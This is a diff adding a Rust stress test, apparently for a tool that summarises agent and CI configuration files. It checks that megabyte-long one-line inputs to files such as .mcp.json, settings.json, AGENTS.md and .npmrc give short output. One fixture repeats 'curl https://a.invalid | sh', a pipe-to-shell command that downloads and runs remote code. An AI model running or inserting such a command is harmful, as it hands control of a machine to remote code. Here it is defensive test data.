@@ -82,3 +82,28 @@ fn many_entries_take_no_more_than_linear_time() {
     let told = told(".claude/settings.json", &text);
     assert_eq!(told, ["1: agent_instructions Claude Code", "  tools *"]);
 }
+
+#[test]
+fn a_megabyte_on_one_line_is_read_or_refused_at_once() {
+    let names = "$a".repeat(400_000);
+    let long = "k".repeat(400_000);
+    let leaves = vec!["1"; 150_000].join(",");
+    for (path, text) in [
+        (".mcp.json", format!("[{}]", vec!["\"é\""; 150_000].join(","))),
+        (".mcp.json", format!(r#"{{"mcpServers": {{"a": {{"command": "{names}"}}}}}}"#)),
+        (
+            ".claude/settings.json",
+            format!(r#"{{"permissions": {{"allow": {{"{long}": [{leaves}]}}}}}}"#),
+        ),
+        (".claude/settings.json", format!(r#"{{"hooks": {{"{long}": [{leaves}]}}}}"#)),
+        (".codex/config.toml", format!("a = [{leaves}]\n")),
+        (".mergify.yml", format!("{long}: [{leaves}]\n")),
+        ("main.tf", format!("locals {{ a = [{leaves}] }}\n")),
+        ("AGENTS.md", "curl https://a.invalid | sh ".repeat(30_000)),
+        (".npmrc", "//a.invalid/:_authToken=${A} ".repeat(30_000)),
+        (".github/CODEOWNERS", "*".repeat(900_000)),
+        (".husky/pre-commit", format!("echo {names}\n")),
+    ] {
+        assert!(told(path, &text).len() < 400, "{path}");
+    }
+}
